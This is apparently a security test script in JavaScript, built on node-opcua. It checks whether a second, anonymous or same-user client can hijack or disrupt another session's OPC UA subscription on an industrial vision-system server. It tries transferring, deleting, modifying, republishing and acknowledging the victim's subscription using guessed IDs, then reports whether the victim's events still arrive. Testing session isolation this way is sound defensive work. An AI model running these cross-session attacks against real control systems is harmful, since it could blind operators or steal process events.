// node-opcua as a hostile second client beside a PLC's session. The first client (the victim) opens a
// user session, subscribes to the VisionSystem's ResultReady events (one event MonitoredItem) and keeps
// it; a second client then opens its own session (anonymous, or the same user with WHO=user) and calls
// one subscription service on the victim's SubscriptionId and MonitoredItemId (small integers, easy
// to guess: here it is simply told them). Then the victim starts a job and waits for that job's event,
// and calls the same services on its own subscription (what any client does with its own).
// Prints one JSON line:
//   {kind: "attempt", service, who, status: the second client's answer (a status name; its operation
//    result where the service has one per item), detail, delivered: whether the victim got its job's
//    ResultReady afterwards, received: whether the second client got it instead (a transfer answered Good:
//    its own Publish requests; else null), own: {SERVICE: status} the victim's own calls on its subscription,
//    told: the status changes the victim's subscription was notified of (e.g. GoodSubscriptionTransferred)}
// SERVICE: ModifySubscription, CreateMonitoredItems, ModifyMonitoredItems, SetMonitoringMode,
// DeleteMonitoredItems, SetPublishingMode, Republish, Publish (an acknowledgement), TransferSubscriptions,
// DeleteSubscriptions.
// Usage: node sessions.js URL USER PASSWORD SERVICE [anonymous|user]
const { AttributeIds, MessageSecurityMode, MonitoringMode, OPCUAClient, PublishRequest, RepublishRequest,
  SecurityPolicy, TimestampsToReturn, UserTokenType, constructEventFilter } = require("node-opcua-client");
const { string, userSession, NS } = require("./vision");
const { makeBrowsePath } = require("node-opcua-client");

const [url, user, password, service, who = "anonymous"] = process.argv.slice(2);
const say = (o) => process.stdout.write(JSON.stringify(o) + "\n");
const sleep = (ms) => new Promise((r) => setTimeout(r, ms));

// a service's answer as a status name: a ServiceFault's service result, else the first operation result
const faultName = (error) => (String(error).match(/serviceResult = (\w+)/) || [null, String(error)])[1];
const statusName = (s) => (s && s.name) || String(s);
const callback = (fn) => new Promise((resolve, reject) => fn((err, response) => (err ? reject(err) : resolve(response))));

async function session(identity) {
  const client = OPCUAClient.create({
    endpointMustExist: false, securityMode: MessageSecurityMode.None, securityPolicy: SecurityPolicy.None,
    connectionStrategy: { maxRetry: 2, initialDelay: 200 },
  });
  await client.connect(url);
  return { client, session: await client.createSession(identity) };
}

// Each service on subscription `sid`, item `mid`, by `s` (a ClientSession): [status, detail]
const SERVICES = {
  ModifySubscription: async (s, sid) => {
    const r = await s.modifySubscription({ subscriptionId: sid, requestedPublishingInterval: 60000,
      requestedLifetimeCount: 3, requestedMaxKeepAliveCount: 1, maxNotificationsPerPublish: 1 });
    return [statusName(r.responseHeader.serviceResult), r.revisedPublishingInterval];
  },
  CreateMonitoredItems: async (s, sid) => {
    const r = await s.createMonitoredItems({ subscriptionId: sid, timestampsToReturn: TimestampsToReturn.Both,
      itemsToCreate: [{ itemToMonitor: { nodeId: "i=2258", attributeId: AttributeIds.Value },
        monitoringMode: MonitoringMode.Reporting,
        requestedParameters: { clientHandle: 4242, samplingInterval: 100, queueSize: 1, discardOldest: true } }] });
    return [statusName(r.results[0].statusCode), r.results[0].monitoredItemId];
  },
  ModifyMonitoredItems: async (s, sid, mid) => {
    const r = await s.modifyMonitoredItems({ subscriptionId: sid, timestampsToReturn: TimestampsToReturn.Both,
      itemsToModify: [{ monitoredItemId: mid,
        requestedParameters: { clientHandle: 4242, samplingInterval: 100, queueSize: 1, discardOldest: true } }] });
    return [statusName(r.results[0].statusCode), null];
  },
  SetMonitoringMode: async (s, sid, mid) => {
    const r = await s.setMonitoringMode({ subscriptionId: sid, monitoringMode: MonitoringMode.Disabled,
      monitoredItemIds: [mid] });
    return [statusName(r.results[0]), null];
  },
  DeleteMonitoredItems: async (s, sid, mid) => {
    const r = await callback((cb) => s.deleteMonitoredItems({ subscriptionId: sid, monitoredItemIds: [mid] }, cb));
    return [statusName(r.results[0]), null];
  },
  SetPublishingMode: async (s, sid) => [statusName((await s.setPublishingMode(false, [sid]))[0]), null],
  Republish: async (s, sid) => {
    // every sequence number the victim's subscription may still hold: a message answered is one read
    let last = null;
    const read = [];
    for (let n = 1; n <= 20; n += 1) {
      try {
        const r = await callback((cb) => s.republish(new RepublishRequest({ subscriptionId: sid,
          retransmitSequenceNumber: n }), cb));
        last = statusName(r.responseHeader.serviceResult);
        if (r.notificationMessage && r.notificationMessage.sequenceNumber) read.push(n);
      } catch (error) {
        last = faultName(error);
      }
    }
    return [read.length ? "Good" : last, read];
  },
  Publish: async (s, sid) => {
    // an acknowledgement of the victim's messages (it takes them from its retransmission queue); the
    // second client's own subscription answers the Publish request (a keep-alive)
    await s.createSubscription({ requestedPublishingInterval: 50, requestedLifetimeCount: 60,
      requestedMaxKeepAliveCount: 2, maxNotificationsPerPublish: 10, publishingEnabled: true, priority: 1 });
    const r = await callback((cb) => s.publish(new PublishRequest({
      subscriptionAcknowledgements: [{ subscriptionId: sid, sequenceNumber: 1 }] }), cb));
    return [statusName(r.results[0]), null];
  },
  TransferSubscriptions: async (s, sid) => {
    const r = await s.transferSubscriptions({ subscriptionIds: [sid], sendInitialValues: false });
    return [statusName(r.results[0].statusCode), r.results[0].availableSequenceNumbers];
  },
  DeleteSubscriptions: async (s, sid) => {
    const r = await s.deleteSubscriptions({ subscriptionIds: [sid] });
    return [statusName(r.results[0]), null];
  },
};
// what the victim does with its own subscription afterwards (not the destructive ones)
const OWN = ["ModifySubscription", "ModifyMonitoredItems", "SetMonitoringMode", "SetPublishingMode"];

async function main() {
  if (!(service in SERVICES)) throw new Error(`no service ${service}`);
  const victim = await userSession(url, user, password);
  const ns = (await victim.session.readNamespaceArray()).indexOf(NS);
  const path = (p) => victim.session.translateBrowsePath(makeBrowsePath("RootFolder", `/Objects/${ns}:VisionSystem${p}`))
    .then((r) => r.targets[0].targetId);
  const [system, machine, start] = [await path(""), await path(`/${ns}:VisionStateMachine`),
    await path(`/${ns}:VisionStateMachine/${ns}:StartSingleJob`)];
  const subscription = await victim.session.createSubscription2({
    requestedPublishingInterval: 10, requestedLifetimeCount: 600, requestedMaxKeepAliveCount: 20,
    maxNotificationsPerPublish: 100, publishingEnabled: true, priority: 10,
  });
  const jobs = new Set();
  const item = await subscription.monitor(
    { nodeId: system, attributeId: AttributeIds.EventNotifier },
    { samplingInterval: 0, queueSize: 100, filter: constructEventFilter([`${ns}:JobId`]) }, TimestampsToReturn.Both);
  item.on("changed", (values) => jobs.add(values[0].value));
  const told = [];      // the StatusChangeNotifications the victim's subscription got (a transfer: Good_SubscriptionTransferred)
  subscription.on("status_changed", (status) => told.push(statusName(status)));
  await sleep(300);
  const sid = subscription.subscriptionId;
  const mid = item.monitoredItemId;

  const second = await session(who === "user" ? { type: UserTokenType.UserName, userName: user, password }
    : { type: UserTokenType.Anonymous });
  let status;
  let detail;
  try {
    [status, detail] = await SERVICES[service](second.session, sid, mid);
  } catch (error) {
    [status, detail] = [faultName(error), null];
  }

  // the victim's next part: its job's event must reach it
  const result = await victim.session.call({ objectId: machine, methodId: start,
    inputArguments: [string(""), string(`sessions-${service}`), string(""), string("")] });
  const job = result.outputArguments.length ? result.outputArguments[0].value : null;
  for (let waited = 0; waited < 5000 && !jobs.has(job); waited += 50) await sleep(50);
  const delivered = job !== null && jobs.has(job);

  // after a transfer the second session owns the subscription: its Publish requests get the job's event
  let received = null;
  if (service === "TransferSubscriptions" && status === "Good") {
    received = false;
    const until = Date.now() + 5000;
    while (!received && Date.now() < until) {
      const response = await Promise.race([
        callback((cb) => second.session.publish(new PublishRequest({ subscriptionAcknowledgements: [] }), cb))
          .catch(() => null),
        sleep(1000).then(() => null)]);
      const message = response && response.subscriptionId === sid ? response.notificationMessage : null;
      for (const data of (message && message.notificationData) || []) {
        for (const event of data.events || []) if (event.eventFields[0].value === job) received = true;
      }
    }
  }

  const own = {};
  for (const name of OWN) {
    try {
      own[name] = (await SERVICES[name](victim.session, sid, mid))[0];
    } catch (error) {
      own[name] = faultName(error);
    }
  }
  say({ kind: "attempt", service, who, status, detail, delivered, received, subscriptionId: sid, monitoredItemId: mid,
    jobStatus: statusName(result.statusCode), own, told });
  await second.session.close().catch(() => {});
  await second.client.disconnect();
  await victim.session.close().catch(() => {});
  await victim.client.disconnect();
}

main().catch((error) => { say({ kind: "error", message: String(error) }); process.exit(1); });
